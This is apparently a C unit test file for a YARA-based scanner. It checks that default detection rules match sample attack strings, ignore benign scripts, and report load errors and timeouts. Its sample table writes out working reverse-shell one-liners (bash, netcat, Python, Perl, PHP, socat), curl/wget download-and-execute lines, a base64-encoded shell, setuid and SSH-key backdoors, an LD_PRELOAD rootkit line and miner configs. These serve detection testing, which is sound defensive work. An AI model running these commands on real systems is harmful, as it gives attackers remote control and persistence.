/* YARA scanning: the embedded default rules (every rule fires on a realistic
 * sample, none fires on benign data, on real binaries or on the rule set's
 * own text, and they are the files of rules/default/), rules directories
 * written here (a planted marker found at its offset, errors reported as
 * FILE:LINE), and the scan's failure modes. Run from the repository root,
 * as `make unit` does: the default rules are compared with rules/default/. */
#include "act/yara_scan.h"
#include "act/yara_rules_default.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "temp_name.h"

#define MAX_MATCHES 32
#define TIMEOUT_S   10

/* A Monero address is 95 base58 characters starting with 4. */
#define MONERO_WALLET                                                                              \
	"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RV" \
	"G"                                                                                        \
	"QBEP3A"

struct sample {
	const char *rule;
	const char *ns;
	const char *text;
};

static const struct sample malicious[] = {
    {"bash_dev_tcp_reverse_shell", "reverse_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
    {"bash_dev_tcp_reverse_shell", "reverse_shell",
     "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"},
    {"netcat_exec_shell", "reverse_shell", "nc -e /bin/sh 10.0.0.1 4444"},
    {"netcat_exec_shell", "reverse_shell",
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"},
    {"python_socket_shell", "reverse_shell",
     "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
     "socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0); "
     "os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")'"},
    {"perl_socket_shell", "reverse_shell",
     "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
     "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
     "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"},
    {"php_fsockopen_shell", "reverse_shell",
     "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"},
    {"socat_exec_shell", "reverse_shell",
     "socat tcp-connect:10.0.0.1:4444 exec:/bin/bash,pty,stderr,setsid,sigint,sane"},
    {"stratum_pool_url", "crypto_miner", "-o stratum+tcp://pool.example:3333 -u worker1"},
    {"stratum_pool_url", "crypto_miner", "\"url\": \"stratum+ssl://xmr.pool.example:443\""},
    {"stratum_json_rpc", "crypto_miner",
     "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5.1\"]}"},
    {"xmrig_miner", "crypto_miner", "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"},
    {"xmrig_miner", "crypto_miner", "./xmrig --donate-level=1 -o pool.example:3333 -u x"},
    {"monero_pool_config", "crypto_miner",
     "{\"pools\": [{\"url\": \"pool.example.org:4444\", \"user\": \"" MONERO_WALLET
     "\", \"pass\": \"x\"}], \"algo\": \"rx/0\"}"},
    {"shadow_hash_cracking", "post_exploitation",
     "unshadow /etc/passwd /etc/shadow > /tmp/hashes.txt"},
    {"shadow_hash_cracking", "post_exploitation",
     "john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes.txt"},
    {"privilege_escalation_enumerator", "post_exploitation", "./linpeas.sh -a > /dev/shm/out.txt"},
    {"credential_dumper", "post_exploitation", "sudo ./mimipenguin.sh"},
    {"setuid_shell_backdoor", "post_exploitation", "chmod +s /bin/bash"},
    {"setuid_shell_backdoor", "post_exploitation", "cp /bin/sh /tmp/.r; chmod 4755 /tmp/.r"},
    {"ssh_authorized_keys_injection", "post_exploitation",
     "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHhLq0Qz1o8Pq1vGm5m6vJm9d8e7f6g5h4i3j2k1l0m9 "
     "op@kali' >> /root/.ssh/authorized_keys"},
    {"download_and_execute", "post_exploitation", "curl -fsSL http://203.0.113.7/x.sh | sh"},
    {"download_and_execute", "post_exploitation", "wget -qO- http://203.0.113.7/i | sudo bash"},
    {"download_and_execute", "post_exploitation",
     "wget http://203.0.113.7/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing"},
    {"base64_decode_to_shell", "post_exploitation",
     "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash"},
    {"ld_preload_rootkit", "post_exploitation",
     "echo /usr/local/lib/libhide.so >> /etc/ld.so.preload"},
    {"ld_preload_rootkit", "post_exploitation", "LD_PRELOAD=/dev/shm/.x/libhide.so /usr/sbin/sshd"},
};

/* Ordinary data that shares words with the rules: a /dev/tcp health check
 * without a shell on it, curl piped to sha256sum, nc -z, an encoding (not
 * decoding) base64, a socket with dup2 onto a log file, a JSON config with
 * url, user and algo keys. */
static const char benign_script[] =
    "#!/bin/sh\n"
    "# Nightly backup of the application database.\n"
    "set -eu\n"
    "BACKUP_DIR=/var/backups/app\n"
    "stamp=$(date +%Y%m%d)\n"
    "mkdir -p \"$BACKUP_DIR\"\n"
    "pg_dump -h db.internal -U app app | gzip > \"$BACKUP_DIR/app-$stamp.sql.gz\"\n"
    "curl -fsSL https://releases.example.com/tool.tar.gz -o /opt/tool.tar.gz\n"
    "curl -fsSL https://releases.example.com/tool.sha256 | sha256sum -c -\n"
    "tar -xzf /opt/tool.tar.gz -C /opt/tool\n"
    "chmod 755 /opt/tool/bin/tool\n"
    "chmod 1777 /tmp\n"
    "base64 -w0 \"$BACKUP_DIR/app-$stamp.sql.gz\" > /var/tmp/upload.b64\n"
    "exec 3<>/dev/tcp/localhost/8080\n"
    "printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3\n"
    "grep -q ssh-ed25519 ~/.ssh/known_hosts || echo \"host key missing\"\n"
    "nc -z db.internal 5432 && echo \"database up\"\n"
    "find \"$BACKUP_DIR\" -mtime +14 -delete\n";

static const char benign_json[] =
    "{\"server\": {\"listen\": \"0.0.0.0:8443\", \"tls\": true},\n"
    " \"database\": {\"url\": \"db.internal:5432\", \"user\": \"app\", \"pool\": 16},\n"
    " \"hash\": {\"algo\": \"sha256\", \"rounds\": 12},\n"
    " \"log\": {\"level\": \"info\", \"file\": \"/var/log/app.log\"}}\n";

static const char benign_python[] = "import os, socket, sys\n"
				    "log = open('/var/log/agent.log', 'a')\n"
				    "os.dup2(log.fileno(), 2)\n"
				    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
				    "s.connect((\"metrics.internal\", 2003))\n"
				    "s.sendall(b'host.load 0.42 1700000000\\n')\n";

static bool has_match(const struct vg_yara_match *m, int n, const char *rule, const char *ns)
{
	for (int i = 0; i < n; i++)
		if (strcmp(m[i].rule, rule) == 0 && strcmp(m[i].ns, ns) == 0)
			return true;
	return false;
}

static int scan_text(struct vg_yara *y, const char *text, struct vg_yara_match *m)
{
	char err[256] = "";
	int n =
	    yara_scan_buffer(y, text, strlen(text), TIMEOUT_S, m, MAX_MATCHES, err, sizeof(err));

	if (n < 0)
		fail_msg("scan failed: %s", err);
	assert_in_range(n, 0, MAX_MATCHES);
	return n;
}

static void assert_no_match(struct vg_yara *y, const char *what, const char *text)
{
	struct vg_yara_match m[MAX_MATCHES];
	int n = scan_text(y, text, m);

	if (n > 0)
		fail_msg("%s matched %s:%s at %llu (%s)", what, m[0].ns, m[0].rule,
			 (unsigned long long)m[0].offset, m[0].excerpt);
}

static struct vg_yara *load_or_fail(const char *dir)
{
	struct vg_yara *y = NULL;
	char err[512] = "";

	if (yara_load(dir, &y, err, sizeof(err)))
		fail_msg("yara_load(%s): %s", dir ? dir : "defaults", err);
	assert_non_null(y);
	return y;
}

/* ---- the default rules ---------------------------------------------------- */

static void test_every_default_rule_matches_its_samples(void **state)
{
	struct vg_yara *y = load_or_fail(NULL);
	const char *seen[MAX_MATCHES];
	unsigned distinct = 0;

	for (size_t i = 0; i < sizeof(malicious) / sizeof(malicious[0]); i++) {
		const struct sample *s = &malicious[i];
		struct vg_yara_match m[MAX_MATCHES];
		int n = scan_text(y, s->text, m);
		bool known = false;

		if (!has_match(m, n, s->rule, s->ns))
			fail_msg("%s:%s did not match: %s", s->ns, s->rule, s->text);
		for (int j = 0; j < n; j++) {
			assert_true(m[j].meta_description[0] != '\0');
			assert_non_null(strstr(m[j].tags, m[j].ns));
		}
		for (unsigned j = 0; j < distinct; j++)
			known = known || strcmp(seen[j], s->rule) == 0;
		if (!known) {
			assert_in_range(distinct, 0, MAX_MATCHES - 1);
			seen[distinct++] = s->rule;
		}
	}
	/* Every rule of the set has a sample here. */
	assert_int_equal(distinct, yara_rule_count(y));
	yara_free(y);
}

static void test_default_rules_ignore_benign_data(void **state)
{
	struct vg_yara *y = load_or_fail(NULL);
	const char *binaries[] = {"/usr/bin/ls", "/bin/bash"};
	size_t total = 0;

	assert_no_match(y, "shell script", benign_script);
	assert_no_match(y, "JSON config", benign_json);
	assert_no_match(y, "python client", benign_python);
	/* The rules are embedded in vigilanted: their text must not match
	 * them, alone or laid end to end as in the binary's .rodata. */
	for (const struct yara_rules_source *src = yara_default_rules; src->path; src++) {
		assert_no_match(y, src->path, src->text);
		total += strlen(src->text);
	}
	char *all = calloc(1, total + 1);

	assert_non_null(all);
	for (const struct yara_rules_source *src = yara_default_rules; src->path; src++)
		strcat(all, src->text);
	assert_no_match(y, "all default rules", all);
	free(all);
	/* bash holds "/dev/tcp" itself; ls is any binary. */
	for (size_t i = 0; i < sizeof(binaries) / sizeof(binaries[0]); i++) {
		struct vg_yara_match m[MAX_MATCHES];
		char err[256] = "";
		int n = yara_scan_file(y, binaries[i], TIMEOUT_S, m, MAX_MATCHES, err, sizeof(err));

		if (n != 0)
			fail_msg("%s: %d matches (%s) %s", binaries[i], n, n > 0 ? m[0].rule : "",
				 err);
	}
	yara_free(y);
}

static char *read_whole(const char *path)
{
	FILE *f = fopen(path, "r");
	char *text = NULL;
	size_t len = 0;

	if (!f)
		fail_msg("%s: %s", path, strerror(errno));
	assert_int_equal(getdelim(&text, &len, '\0', f) > 0, 1);
	fclose(f);
	return text;
}

static void test_embedded_rules_are_rules_default(void **state)
{
	struct dirent **entries;
	int files = scandir("rules/default", &entries, NULL, alphasort);
	unsigned listed = 0, yar = 0;

	if (files < 0)
		fail_msg("rules/default: %s (run from the repository root)", strerror(errno));
	for (int i = 0; i < files; i++) {
		size_t len = strlen(entries[i]->d_name);

		yar += len > 4 && strcmp(entries[i]->d_name + len - 4, ".yar") == 0;
		free(entries[i]);
	}
	free(entries);
	for (const struct yara_rules_source *src = yara_default_rules; src->path; src++) {
		char *on_disk = read_whole(src->path);

		if (strcmp(on_disk, src->text) != 0)
			fail_msg("%s differs from its embedded copy: rebuild", src->path);
		free(on_disk);
		listed++;
	}
	assert_int_equal(listed, yar);

	struct vg_yara *embedded = load_or_fail(NULL);
	struct vg_yara *from_dir = load_or_fail("rules/default");

	assert_int_equal(yara_rule_count(embedded), yara_rule_count(from_dir));
	yara_free(embedded);
	yara_free(from_dir);
}

/* libyara's init count: freeing one rule set must leave another usable. */
static void test_two_rule_sets_live_independently(void **state)
{
	struct vg_yara *first = load_or_fail(NULL);
	struct vg_yara *second = load_or_fail(NULL);
	struct vg_yara_match m[MAX_MATCHES];

	yara_free(first);
	assert_true(has_match(m, scan_text(second, "stratum+tcp://pool.example:3333", m),
			      "stratum_pool_url", "crypto_miner"));
	yara_free(second);
	yara_free(NULL);
}

/* ---- rules directories written by the test -------------------------------- */

struct fixture {
	char dir[256];	/* rules */
	char data[300]; /* a file to scan */
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	const char *tmp = getenv("TMPDIR");

	if (!f)
		return -1;
	char prefix[256];

	snprintf(prefix, sizeof(prefix), "%s/test_yara.", tmp && *tmp ? tmp : "/tmp");
	temp_name(f->dir, sizeof(f->dir), prefix);
	if (!mkdtemp(f->dir)) {
		free(f);
		return -1;
	}
	snprintf(f->data, sizeof(f->data), "%s.data", f->dir);
	*state = f;
	return 0;
}

static int remove_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	return remove(path);
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	int rc = nftw(f->dir, remove_entry, 16, FTW_DEPTH | FTW_PHYS);

	unlink(f->data);
	free(f);
	return rc;
}

static void write_file(const char *dir, const char *name, const void *data, size_t len)
{
	char path[512];
	FILE *out;

	if (name)
		snprintf(path, sizeof(path), "%s/%s", dir, name);
	else
		snprintf(path, sizeof(path), "%s", dir);
	out = fopen(path, "w");
	if (!out)
		fail_msg("%s: %s", path, strerror(errno));
	assert_int_equal(fwrite(data, 1, len, out), len);
	assert_int_equal(fclose(out), 0);
}

static void write_text(const char *dir, const char *name, const char *text)
{
	write_file(dir, name, text, strlen(text));
}

#define PLANTED_OFFSET 1000

static void test_planted_marker_found_at_its_offset(void **state)
{
	struct fixture *f = *state;
	char data[4096];
	struct vg_yara_match m[4];
	char err[256] = "";

	write_text(f->dir, "10_planted.yar",
		   "rule planted_marker : lab marker\n"
		   "{\n"
		   "\tmeta:\n"
		   "\t\tdescription = \"marker planted by the unit test\"\n"
		   "\tstrings:\n"
		   "\t\t$marker = \"VIGILANTE-PLANTED-MARKER\"\n"
		   "\tcondition:\n"
		   "\t\t$marker\n"
		   "}\n");
	write_text(f->dir, "20_other.yara",
		   "rule other_marker { strings: $a = \"NOT-IN-THE-DATA\" condition: $a }\n");
	/* Neither *.yar nor *.yara: not read, so its nonsense is no error. */
	write_text(f->dir, "README", "these are not rules {");
	for (size_t i = 0; i < sizeof(data); i++)
		data[i] = (char)('a' + i % 26);
	/* Twice: the match reported is the earliest. */
	memcpy(data + PLANTED_OFFSET, "VIGILANTE-PLANTED-MARKER", 24);
	memcpy(data + 3 * PLANTED_OFFSET, "VIGILANTE-PLANTED-MARKER", 24);
	write_file(f->data, NULL, data, sizeof(data));

	struct vg_yara *y = load_or_fail(f->dir);

	assert_int_equal(yara_rule_count(y), 2);
	assert_int_equal(yara_scan_file(y, f->data, TIMEOUT_S, m, 4, err, sizeof(err)), 1);
	assert_string_equal(m[0].rule, "planted_marker");
	assert_string_equal(m[0].ns, "10_planted");
	assert_string_equal(m[0].tags, "lab,marker");
	assert_string_equal(m[0].meta_description, "marker planted by the unit test");
	assert_int_equal(m[0].offset, PLANTED_OFFSET);
	assert_string_equal(m[0].excerpt, "VIGILANTE-PLANTED-MARKER");

	/* The same bytes from memory; and an empty file runs the rules too. */
	assert_int_equal(yara_scan_buffer(y, data, sizeof(data), TIMEOUT_S, m, 4, err, sizeof(err)),
			 1);
	assert_int_equal(m[0].offset, PLANTED_OFFSET);
	write_file(f->data, NULL, "", 0);
	assert_int_equal(yara_scan_file(y, f->data, TIMEOUT_S, m, 4, err, sizeof(err)), 0);
	yara_free(y);
}

static void test_excerpt_escapes_and_truncates(void **state)
{
	struct fixture *f = *state;
	const unsigned char data[] = {'x', 'A', '\\', 0x00, '\n', 'B', 'y'};
	unsigned char run[100];
	struct vg_yara_match m[2];
	char err[256] = "";

	write_text(
	    f->dir, "bytes.yar",
	    "rule odd_bytes { strings: $a = { 41 5C 00 0A 42 } condition: $a }\n"
	    "rule long_run { strings: $a = { 01 01 01 01 01 01 01 01 01 01 01 01 01 01 01 01 "
	    "01 01 01 01 01 01 01 01 } condition: $a }\n");
	memset(run, 0x01, sizeof(run));

	struct vg_yara *y = load_or_fail(f->dir);

	assert_int_equal(yara_scan_buffer(y, data, sizeof(data), TIMEOUT_S, m, 2, err, sizeof(err)),
			 1);
	assert_int_equal(m[0].offset, 1);
	assert_string_equal(m[0].excerpt, "A\\\\\\x00\\x0aB");
	/* 24 bytes of 4-character escapes: 15 fit in 63 characters, never half of one. */
	assert_int_equal(yara_scan_buffer(y, run, sizeof(run), TIMEOUT_S, m, 2, err, sizeof(err)),
			 1);
	assert_string_equal(m[0].rule, "long_run");
	assert_int_equal(m[0].offset, 0);
	assert_int_equal(strlen(m[0].excerpt), 60);
	assert_string_equal(m[0].excerpt + 56, "\\x01");
	yara_free(y);
}

static void expect_load_error(const char *dir, const char *expected_prefix, const char *phrase)
{
	static char sentinel;
	struct vg_yara *y = (struct vg_yara *)&sentinel; /* yara_load must reset it */
	char err[512] = "";

	assert_int_equal(yara_load(dir, &y, err, sizeof(err)), -1);
	assert_null(y);
	if (strncmp(err, expected_prefix, strlen(expected_prefix)) != 0 || !strstr(err, phrase))
		fail_msg("error \"%s\" lacks \"%s\" or \"%s\"", err, expected_prefix, phrase);
}

static void test_rules_errors_name_file_and_line(void **state)
{
	struct fixture *f = *state;
	char prefix[512];

	/* A good file first: nothing of it is loaded either. */
	write_text(f->dir, "a_good.yar", "rule good { strings: $a = \"good\" condition: $a }\n");
	write_text(f->dir, "b_bad.yar",
		   "rule bad\n"
		   "{\n"
		   "\tstrings:\n"
		   "\t\t$a = \"bad\"\n"
		   "\tcondition:\n"
		   "\t\t$a and and\n"
		   "}\n");
	snprintf(prefix, sizeof(prefix), "%s/b_bad.yar:6: ", f->dir);
	expect_load_error(f->dir, prefix, "syntax error");

	write_text(f->dir, "b_bad.yar", "rule bad { condition: $missing }\n");
	snprintf(prefix, sizeof(prefix), "%s/b_bad.yar:1: ", f->dir);
	expect_load_error(f->dir, prefix, "$missing");

	/* Two files, one namespace each: the same rule name twice is fine. */
	write_text(f->dir, "b_bad.yar", "rule good { strings: $a = \"good\" condition: $a }\n");
	struct vg_yara *y = load_or_fail(f->dir);
	assert_int_equal(yara_rule_count(y), 2);
	yara_free(y);
}

static void test_rules_directory_errors(void **state)
{
	struct fixture *f = *state;
	char prefix[512], path[512];

	snprintf(prefix, sizeof(prefix), "%s: ", f->dir);
	expect_load_error(f->dir, prefix, "no *.yar or *.yara files");

	snprintf(path, sizeof(path), "%s/absent", f->dir);
	snprintf(prefix, sizeof(prefix), "%s: ", path);
	expect_load_error(path, prefix, strerror(ENOENT));

	/* A directory named like a rules file. */
	snprintf(path, sizeof(path), "%s/sub.yar", f->dir);
	assert_int_equal(mkdir(path, 0700), 0);
	snprintf(prefix, sizeof(prefix), "%s: ", path);
	expect_load_error(f->dir, prefix, "not a regular file");
}

/* ---- scan failures and limits --------------------------------------------- */

static void test_scan_of_missing_or_odd_file_fails(void **state)
{
	struct fixture *f = *state;
	struct vg_yara *y = load_or_fail(NULL);
	struct vg_yara_match m[1];
	char err[512] = "", path[512];

	snprintf(path, sizeof(path), "%s/no-such-core", f->dir);
	assert_int_equal(yara_scan_file(y, path, TIMEOUT_S, m, 1, err, sizeof(err)), -1);
	assert_non_null(strstr(err, path));
	assert_non_null(strstr(err, strerror(ENOENT)));

	assert_int_equal(yara_scan_file(y, f->dir, TIMEOUT_S, m, 1, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "not a regular file"));

	snprintf(path, sizeof(path), "%s/fifo", f->dir);
	assert_int_equal(mkfifo(path, 0600), 0);
	assert_int_equal(yara_scan_file(y, path, TIMEOUT_S, m, 1, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "not a regular file"));

	assert_int_equal(yara_scan_buffer(y, "x", 1, 0, m, 1, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "timeout 0"));
	assert_int_equal(yara_scan_buffer(y, "x", 1, TIMEOUT_S, NULL, 1, err, sizeof(err)), -1);
	yara_free(y);
}

static void test_max_limits_the_matches_filled(void **state)
{
	struct vg_yara *y = load_or_fail(NULL);
	const char text[] = "stratum+tcp://pool.example:3333\n"
			    "chmod +s /bin/bash\n"
			    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
	struct vg_yara_match m[3];
	char err[256] = "";

	memset(m, 0x5a, sizeof(m));
	assert_int_equal(yara_scan_buffer(y, text, strlen(text), TIMEOUT_S, m, 1, err, sizeof(err)),
			 3);
	assert_true(m[0].rule[0] != 0x5a);
	for (size_t i = 0; i < sizeof(m[1]); i++)
		assert_int_equal(((unsigned char *)&m[1])[i], 0x5a);
	/* Only the count. */
	assert_int_equal(
	    yara_scan_buffer(y, text, strlen(text), TIMEOUT_S, NULL, 0, err, sizeof(err)), 3);
	yara_free(y);
}

static void test_scan_stops_at_its_time_budget(void **state)
{
	struct fixture *f = *state;
	char data[4096] = {0};
	char err[256] = "";
	struct timespec start, end;

	/* A billion iterations take minutes: only the budget ends this scan. */
	write_text(f->dir, "slow.yar",
		   "rule slow_loop\n"
		   "{\n"
		   "\tcondition:\n"
		   "\t\tfor all i in (0..1000000000) : (uint8(i % filesize) < 255)\n"
		   "}\n");

	struct vg_yara *y = load_or_fail(f->dir);

	clock_gettime(CLOCK_MONOTONIC, &start);
	assert_int_equal(yara_scan_buffer(y, data, sizeof(data), 1, NULL, 0, err, sizeof(err)), -1);
	clock_gettime(CLOCK_MONOTONIC, &end);
	assert_string_equal(err, "yara: buffer: scan timed out after 1 s");
	assert_in_range(end.tv_sec - start.tv_sec, 0, 5);
	yara_free(y);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_every_default_rule_matches_its_samples),
	    cmocka_unit_test(test_default_rules_ignore_benign_data),
	    cmocka_unit_test(test_embedded_rules_are_rules_default),
	    cmocka_unit_test(test_two_rule_sets_live_independently),
	    cmocka_unit_test_setup_teardown(test_planted_marker_found_at_its_offset, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(test_excerpt_escapes_and_truncates, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_rules_errors_name_file_and_line, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_rules_directory_errors, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_scan_of_missing_or_odd_file_fails, setup,
					    teardown),
	    cmocka_unit_test(test_max_limits_the_matches_filled),
	    cmocka_unit_test_setup_teardown(test_scan_stops_at_its_time_budget, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
